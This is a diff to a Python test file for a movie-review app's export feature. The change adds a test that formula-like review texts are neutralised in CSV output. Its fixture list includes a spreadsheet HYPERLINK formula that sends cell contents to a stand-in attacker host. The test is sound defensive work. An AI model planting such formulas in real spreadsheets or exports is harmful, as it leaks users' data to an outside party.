@@ -6,6 +6,7 @@ chunks with a fixed number of queries each, and that its memory does not grow wi
 number of reviews.
 """
 
+import csv
 import json
 import math
 import sqlite3
@@ -21,13 +22,13 @@ from sqlalchemy import event, insert
 
 from app.cli import main
 from app.db import Explanation, Movie, Prediction, Review, Sentence, SentenceWeight, WordWeight, make_engine, migrate, session_scope
-from app.export import csv_columns, export_rows
+from app.export import FORMULA_STARTS, csv_columns, export_rows
 from app.main import create_app
 from app.schemas import ExportRow
 from app.settings import Settings
 from model.quality import QUALITY_FIELDS
 from tests.conftest import ROOT
-from tests.web_fixtures import CATALOGUE, build_web_database, explanation_figures
+from tests.web_fixtures import CATALOGUE, analyzer_app, build_web_database, explanation_figures
 
 TOKEN = "export-s3cret"
 WRITER_LABELED = "Seen it twice. Not for me."
@@ -167,6 +168,37 @@ def test_csv_is_one_row_per_review_with_flat_columns(database, tmp_path):
     labeled = frame[frame["text"] == WRITER_LABELED].iloc[0]
     assert labeled["user_label"] == "negative" and pandas.isna(labeled["bert_p_positive"])
     assert pandas.isna(labeled["gold"])
+
+
+FORMULAS = [
+    '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
+    """Reviews posted through the API that begin like a formula come out of the CSV with a leading
+    quote (OWASP's rule); the same texts stay as they were in JSON Lines."""
+    url = build_web_database(tmp_path / "textflix.db")
+    app, _, _ = analyzer_app(url, api_token=TOKEN)
+    with TestClient(app) as client:
+        for text in [*FORMULAS, "A good film. -3 for the ending."]:
+            response = client.post(
+                "/api/reviews", json={"text": text, "title_id": "tt0100001"}, headers={"Authorization": f"Bearer {TOKEN}"}
+            )
+            assert response.status_code == 201, response.text
+    with export_file(url, tmp_path, "--format", "csv").open(newline="", encoding="utf-8") as file:
+        lines = list(csv.DictReader(file))
+    texts = [line["text"] for line in lines if line["source"] == "user"]
+    assert texts[-len(FORMULAS) - 1 :] == [*("'" + text for text in FORMULAS), "A good film. -3 for the ending."]
+    cells = [cell for line in lines for cell in line.values()]
+    assert not [cell for cell in cells if cell[:1] in FORMULA_STARTS]
+    rows = read_jsonl(export_file(url, tmp_path))
+    assert [row["text"] for row in rows if row["source"] == "user"][-len(FORMULAS) - 1 : -1] == FORMULAS
 
 
 # --- errors ------------------------------------------------------------------------------------
